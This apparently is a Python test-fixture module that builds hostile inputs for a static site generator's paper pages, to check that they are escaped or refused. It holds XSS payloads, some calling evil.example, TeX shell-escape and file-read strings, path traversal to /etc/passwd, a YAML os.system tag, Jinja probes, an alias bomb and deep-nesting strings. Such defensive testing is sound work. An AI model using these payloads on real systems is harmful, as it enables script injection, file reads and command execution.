"""An adversarial corpus: user text that tries to run script, escape the site or exhaust it.

Titles, abstracts, authors, tags, links and notes come from the internet and from people.
Each payload is a (name, text) pair; `PAYLOADS` is the whole list. Helpers turn them into
a Daily Papers page (`daily_page`), hand-written paper files (`paper_files`), and raw
files that must be refused cleanly (`REFUSED_PAPER_FILES`, `REFUSED_PAGES`).

A new output (feeds, search index, fetch responses) is covered by feeding it the same
payloads and running `tests/hostile/checks.py` over what it writes.
"""

from __future__ import annotations

import datetime as dt
import json
from dataclasses import dataclass, field
from pathlib import Path

import yaml

#: TeX that a citing LaTeX document would run from a `.bib` field (issue 20, item 2): file
#: reads and writes, shell escape, macro definitions, catcode changes, a command reached by
#: name or by character code, braces that would end the field early. The last is safe math.
TEX_PAYLOADS: list[str] = [
    r"Attention $\input{/etc/hostname}$",
    r"$\include{/etc/passwd}$ twice",
    r"$\immediate\write18{touch /tmp/pwned}$",
    r"$\openin5=/etc/passwd \read5 to\x \x$",
    r"$\catcode`\~=13 \def~{\input}$ ~{/etc/hostname}",
    r"$\csname input\endcsname{/etc/hostname}$",
    r"$^^5cinput{/etc/hostname}$",
    r"$\@@input /etc/hostname$",
    r"$\string\input{x}$ and $\expandafter\input\string{x}$",
    r"$\let\x\input \x{/etc/hostname}$",
    r"$x}$ \input{/etc/hostname} ${",
    r"$\}, note = {\input{/etc/hostname}\{$",
    r"}, note = {\input{/etc/hostname}}, title = {",
    r"\input{/etc/hostname} outside math",
    r"$a \\% comment$ and % # & ~ ^ _ outside",
    r"$\mathrm{\def\x{\input}}$",
    r"Safe: $\alpha^2 + \frac{1}{2}\sum_{i}x_i$ and $O(n \log n)$",
]

#: The literal a template engine would evaluate; it must appear as written, never as 49.
JINJA_PROBE = "{{ 7*7 }}"

PAYLOADS: list[tuple[str, str]] = [
    ("script", "<script>alert('xss-script')</script>"),
    ("script-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("img-onerror", '<img src=x onerror="alert(\'xss-img\')">'),
    ("svg-onload", "<svg/onload=alert('xss-svg')>"),
    ("attr-break", '" onmouseover="alert(1)" x="'),
    ("attr-break-single", "' onfocus='alert(1)' autofocus x='"),
    ("tag-break", "</title><script>alert('xss-title')</script>"),
    ("textarea-break", "</textarea></style></noscript><script>alert(2)</script>"),
    ("js-url", "javascript:alert('xss-js')"),
    ("js-url-obfuscated", " jav&#x09;ascript:alert(1) JaVaScRiPt:alert(1)"),
    ("data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62; &nbsp; &#x3C;"),
    ("cdata-end", "]]><script>alert('cdata')</script><![CDATA["),
    ("xml-comment", "<!-- --><script>alert(3)</script>-->"),
    ("jinja-expr", f"{JINJA_PROBE} and {{{{ config }}}} and {{{{ ''.__class__ }}}}"),
    ("jinja-stmt", "{% for x in range(3) %}loop{% endfor %}{# comment #}"),
    ("dotdot", "../../../../etc/passwd"),
    ("abs-path", "/etc/passwd"),
    ("windows-path", "..\\..\\windows\\system32 C:\\evil"),
    ("url-encoded-path", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("controls", "bell\x07 backspace\x08 escape\x1b[31m vtab\x0b formfeed\x0c del\x7f c1\x85\x9b"),
    ("bidi", "safe\u202egnp.exe\u202c and \u2066isolate\u2069 \u200f rlm"),
    ("zero-width", "zero\u200bwidth\u200d joiner \ufeff bom"),
    ("unicode", "大型语言模型 🤖 émojis ﬁ ligature \U0001d4b3 math"),
    ("tex", r"$\text{<script>alert(4)</script>}$ and $$\href{javascript:alert(5)}{x}$$"),
    ("json-break", '"}]};alert(6);//</script><script>alert(7)</script>'),
    ("backslashes", "\\u003cscript\\u003e \\x3cscript\\x3e \\\\"),
    ("yaml-ish", "key: value\n- item\n--- \n...\n&anchor *alias !!python/object:os.system"),
    ("markdown-link", "[click](javascript:alert(8)) ![img](x\" onerror=\"alert(9))"),
    ("style", "<style>body{display:none}</style><div style=\"position:fixed\">x</div>"),
    ("iframe", "<iframe srcdoc=\"<script>alert(10)</script>\"></iframe><object data=x>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("base", '<base href="https://evil.example/">'),
    ("form", '<form action="https://evil.example/"><button formaction=javascript:alert(1)>'),
    ("mathml", '<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>'),
    ("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(12)>">'),
]

#: Links a paper may carry; only the http(s) ones may ever reach an href.
HOSTILE_LINKS = [
    "javascript:alert('xss-link')",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://ok.example/path?q=<script>",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/a b",
    "//evil.example/x",
    "file:///etc/passwd",
    "https://github.com/owner/repo",
]

# Markdown that nests deeply: Python-Markdown recurses per level.
DEEP_NOTES = {
    "deep-list": "".join("  " * i + "- x\n" for i in range(400)),  # 162 kB: under MAX_NOTES
    "deep-quote": "> " * 3000 + "deep",
    "deep-brackets": "[" * 2000 + "x" + "]" * 2000 + "(https://ok.example/)",
    "many-brackets": "[x](" * 50000,  # quadratic in Python-Markdown (found by atheris)
    "deep-html": "<div>" * 3000 + "x" + "</div>" * 3000,
    "deep-emphasis": "*" * 3000 + "x" + "*" * 3000,
}

HOSTILE_NOTES = (
    "**Notes** with <script>alert('note')</script> and <img src=x onerror=alert(1)>.\n\n"
    "[a link](javascript:alert('note-link')) [data](data:text/html,x) "
    "[ok](https://ok.example/)\n\n"
    '<a href="javascript:alert(1)" onclick="alert(2)">raw</a> <iframe src="x"></iframe>\n\n'
    "<svg><script>alert(3)</script></svg> <math><mi xlink:href=\"javascript:alert(4)\">x</mi>"
    "</math>\n\n"
    f"{JINJA_PROBE} {{% raw %}}\n\n"
    "```\n</code></pre><script>alert(5)</script>\n```\n"
)

#: At the limits of docs/content.md (sitegen/store/limits.py): the largest abstract and
#: author list a paper may hold. One more is refused (`OVER_LIMIT_FILES`).
BIG_ABSTRACT_BYTES = 50_000
MANY_AUTHORS = 10_000


def big_abstract(size: int = BIG_ABSTRACT_BYTES) -> str:
    """About `size` bytes of abstract with math, markup and dollar signs mixed in."""
    unit = ("We bound $O(n^2)$ costs <b>bold</b> & $5 fees; see https://ok.example/x. "
            + "Plain words of a long abstract, <i>markup</i> & entities &amp; more. " * 12)
    return (unit * (size // len(unit) + 1))[:size]


def many_authors(count: int = MANY_AUTHORS) -> list[str]:
    """`count` authors, some hostile."""
    names = [f"Author {i}" for i in range(count)]
    names[7] = "<script>alert('author')</script>"
    names[8] = JINJA_PROBE
    return names


@dataclass(frozen=True)
class HostilePaper:
    """One hand-written paper: its front-matter data and notes."""

    slug: str
    data: dict
    notes: str = ""
    expect_title: str = field(default="")


def _day(index: int) -> dt.date:
    return dt.date(2025, 8, 1) + dt.timedelta(days=index % 20)


def hostile_papers(big: bool = True) -> list[HostilePaper]:
    """Hand-written paper files: every payload in every text field, plus the big ones."""
    papers: list[HostilePaper] = []
    for index, (name, text) in enumerate(PAYLOADS):
        data = {
            "title": f"{name}: {text}",
            "date": _day(index),
            "rank": index + 1,
            "authors": [text, f"Normal Author {index}"],
            "abstract": f"Abstract {name}: {text}",
            "tags": [text, name],
            "links": [link for link in HOSTILE_LINKS],
            "upvotes": index,
            "ai_summary": text,
            "ai_keywords": [text],
            "categories": [text],
            "primary_category": text,
            "comment": text,
            "journal_ref": text,
            "doi": text,
            "thumbnail": HOSTILE_LINKS[index % len(HOSTILE_LINKS)],
        }
        papers.append(HostilePaper(f"hostile-{index:02d}", data,
                                   f"Notes for {name}: {text}\n\n{HOSTILE_NOTES}"))
    for index, (name, notes) in enumerate(DEEP_NOTES.items()):
        papers.append(HostilePaper(f"notes-{name}", {"title": f"Deep notes {name}",
                                                     "date": _day(index)}, notes))
    if big:
        papers.append(HostilePaper("big-abstract", {"title": "An abstract at the limit",
                                                    "date": _day(1), "abstract": big_abstract()}))
        papers.append(HostilePaper("many-authors", {"title": "Ten thousand authors",
                                                    "date": _day(2), "authors": many_authors()}))
    return papers


def paper_file_text(paper: HostilePaper) -> str:
    """The paper file a person could write for `paper` (YAML safe-dumped, then notes)."""
    front = yaml.safe_dump(paper.data, sort_keys=False, allow_unicode=True, width=1 << 30)
    return f"---\n{front}---\n\n{paper.notes}"


#: What import and build may write in the folder `write_hostile_site` fills: anything else
#: is a write outside the site.
SITE_WRITES = ("site/_site", "site/content/papers", "site/.sitegen.lock", "site/._site.lock",
               "site/.sitegen-cache")


def write_hostile_site(base: Path, config_text: str) -> Path:
    """A site in `base/site` holding every hostile paper file, and `base/page.txt`, the
    hostile Daily Papers page to import into it; returns the site folder."""
    root = base / "site"
    (root / "content" / "papers").mkdir(parents=True)
    (root / "sitegen.toml").write_text(config_text, encoding="utf-8")
    (base / "page.txt").write_text(daily_page(), encoding="utf-8")
    for paper in hostile_papers():
        (root / "content" / "papers" / f"{paper.slug}.md").write_text(
            paper_file_text(paper), encoding="utf-8")
    return root


def daily_page(big: bool = True) -> str:
    """A Daily Papers page whose titles and abstracts are the payloads (one line each)."""
    lines = ["Daily Papers", "", "Aug 11, 2025", ""]
    for name, text in PAYLOADS:
        flat = " ".join(text.split())
        lines += [f"Imported {name} {flat}", "",
                  f"An abstract about {name}: {flat}. It has two sentences, see "
                  f"https://ok.example/{name}. And {JINJA_PROBE}.", ""]
    lines += ["Aug 12, 2025", ""]
    if big:
        lines += ["A page with an abstract at the limit", "", big_abstract(), ""]
    return "\n".join(lines)


#: Paper files that must be refused: (file name, bytes, words the message must contain).
REFUSED_PAPER_FILES: list[tuple[str, bytes, str]] = [
    ("bad-utf8.md", b"---\ntitle: caf\xe9\ndate: 2025-08-11\n---\n", "UTF-8"),
    ("python-tag.md", b"---\ntitle: !!python/object/apply:os.system ['echo pwned']\n"
     b"date: 2025-08-11\n---\n", "YAML"),
    ("python-name.md", b"---\ntitle: x\ndate: 2025-08-11\nabstract: !!python/name:os.system\n"
     b"---\n", "YAML"),
    ("alias-bomb.md", b"---\ntitle: bomb\ndate: 2025-08-11\nx0: &a0 [lol, lol, lol, lol]\n"
     + b"".join(f"x{i}: &a{i} [{', '.join([f'*a{i-1}'] * 9)}]\n".encode() for i in range(1, 9))
     + b"authors: *a8\n---\n", "alias"),
    ("alias-self.md", b"---\ntitle: loop\ndate: 2025-08-11\nauthors: &a [*a]\n---\n", "alias"),
    ("nul.md", b"---\ntitle: a\x00b\ndate: 2025-08-11\n---\n", "YAML"),
    ("no-front-matter.md", b"<script>alert(1)</script>\n", "front matter"),
    ("not-closed.md", b"---\ntitle: x\n", "not closed"),
    ("list-title.md", b"---\ntitle: [a, b]\ndate: 2025-08-11\n---\n", "title"),
    ("binary.md", bytes(range(256)) * 4, "UTF-8"),
    ("huge-int.md", b"---\ntitle: x\ndate: 2025-08-11\nupvotes: 1e999\n---\n", "whole number"),
]


def _front(lines: str, notes: str = "") -> bytes:
    return f"---\ntitle: Over a limit\ndate: 2025-08-11\n{lines}---\n\n{notes}".encode()


#: Paper files over one limit of docs/content.md each (issue 20): refused, naming the key.
OVER_LIMIT_FILES: list[tuple[str, bytes, str]] = [
    ("long-title.md", _front("").replace(b"Over a limit", b"t" * 2001), "'title' has 2,001 "
     "characters, at most 2,000"),
    ("big-abstract.md", _front(f"abstract: {json.dumps(big_abstract(BIG_ABSTRACT_BYTES + 1))}\n"),
     "'abstract' has 50,001 characters, at most 50,000"),
    ("many-authors.md", _front("authors:\n" + "".join(f"- A{i}\n" for i in range(10_001))),
     "'authors' has 10,001 items, at most 10,000"),
    ("many-tags.md", _front("tags:\n" + "".join(f"- tag {i}\n" for i in range(5000))),
     "'tags' has 5,000 items, at most 100"),
    ("many-links.md", _front("links:\n" + "".join(f"- https://x.example/{i}\n"
                                                  for i in range(101))),
     "'links' has 101 items, at most 100"),
    ("long-author.md", _front(f"authors: ['{'a' * 2001}']\n"),
     "an item of 'authors' has 2,001 characters"),
    ("hex-upvotes.md", _front(f"upvotes: 0x{'f' * 4000}\n"), "'upvotes' is a number of"),
    ("negative-upvotes.md", _front("upvotes: -1\n"), "not a count from 0 to 1,000,000,000"),
    ("big-notes.md", _front("", "x" * 200_001), "the notes have 200,001 characters"),
]
REFUSED_PAPER_FILES += OVER_LIMIT_FILES

#: Daily Papers pages that must be refused, with words the message must contain.
REFUSED_PAGES: list[tuple[str, bytes, str]] = [
    ("latin1.txt", "Aug 11\n\nCaf\xe9 title\n\nAn abstract. Two sentences.\n".encode("latin-1"),
     "UTF-8"),
    ("binary.txt", b"\x00\x01\x02ELF" * 100, "binary"),
    ("empty.txt", b"   \n\n", "empty"),
    ("no-date.txt", b"<script>alert(1)</script>\n\nNo date line here. None at all.\n",
     "no papers"),
    ("before-date.txt", b"A title before any date\n\nAn abstract. Two sentences.\n\nAug 11\n",
     "before any date"),
    ("year-zero.txt", b"Aug 11, 0000\n\nA title\n\nAn abstract. Two sentences.\n",
     "is not a real date"),
    ("over-limit.txt", ("Aug 11, 2025\n\nA title\n\n" + "word " * 10_001 + "\n").encode(),
     "characters, at most 50,000"),
]
